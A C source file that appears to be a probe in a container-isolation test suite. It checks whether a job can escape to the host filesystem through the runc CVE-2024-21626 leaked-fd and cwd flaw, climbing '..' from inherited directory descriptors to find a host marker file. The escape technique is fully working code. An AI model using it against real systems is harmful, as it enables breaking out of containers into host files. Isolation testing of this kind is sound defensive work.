/* runc CVE-2024-21626: a host directory fd leaked into the job (or a cwd
 * left outside the root) lets the job walk up with openat(fd, "..") to the
 * host's /. Scan every open fd and the cwd; from each directory fd, climb
 * 64 levels and look for the host's marker file (argv[1], an absolute host
 * path that does not exist inside the job). */
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>

static const char *marker;

static void climb(int fd, const char *from)
{
    int cur = dup(fd);
    for (int i = 0; i < 64 && cur >= 0; i++) {
        int m = openat(cur, marker + 1, O_RDONLY);
        if (m >= 0) {
            attempt(1, "climb to the host's /", "from %s after %d levels: read the host marker", from, i);
            close(m);
            close(cur);
            return;
        }
        int up = openat(cur, "..", O_RDONLY | O_DIRECTORY);
        close(cur);
        cur = up;
    }
    if (cur >= 0)
        close(cur);
    attempt(0, "climb to the host's /", "from %s: 64 levels of .. never reach %s", from, marker);
}

int main(int argc, char **argv)
{
    marker = argc > 1 ? argv[1] : "/nonexistent-marker";
    int m = open(marker, O_RDONLY);
    attempt(m >= 0, "open the host marker by path", "%s", res(m));

    DIR *d = opendir("/proc/self/fd");
    int dfd = d ? dirfd(d) : -1;
    int extra = 0;
    struct dirent *e;
    while (d && (e = readdir(d))) {
        int fd = atoi(e->d_name);
        if (e->d_name[0] == '.' || fd == dfd)
            continue;
        char path[64], target[512];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(path, target, sizeof target - 1);
        target[n > 0 ? n : 0] = '\0';
        if (fd > 2) {
            extra++;
            attempt(1, "inherited fd", "fd %d -> %s", fd, target);
        } else {
            printf("INFO fd %d -> %s\n", fd, target);
        }
        struct stat st;
        if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode))
            climb(fd, path);
    }
    if (d)
        closedir(d);
    attempt(extra > 0, "fds beyond 0-2", "%d found", extra);
    /* Even fds hidden from /proc: probe every number. */
    int open_fds = 0;
    for (int fd = 3; fd < 4096; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            open_fds++;
    attempt(open_fds > 0, "fcntl(F_GETFD) on 3..4095", "%d open", open_fds);

    char cwd[512];
    char *c = getcwd(cwd, sizeof cwd);
    attempt(!c || cwd[0] != '/', "cwd outside the root", "getcwd says %s", c ? cwd : "(error)");
    int cfd = open(".", O_RDONLY | O_DIRECTORY);
    if (cfd >= 0) {
        climb(cfd, "cwd");
        close(cfd);
    }
    int pc = open("/proc/self/cwd", O_RDONLY | O_DIRECTORY);
    if (pc >= 0) {
        climb(pc, "/proc/self/cwd");
        close(pc);
    }
    int p1 = open("/proc/1/cwd", O_RDONLY | O_DIRECTORY);
    attempt(p1 >= 0, "open(/proc/1/cwd)", "%s", res(p1));
    return done();
}
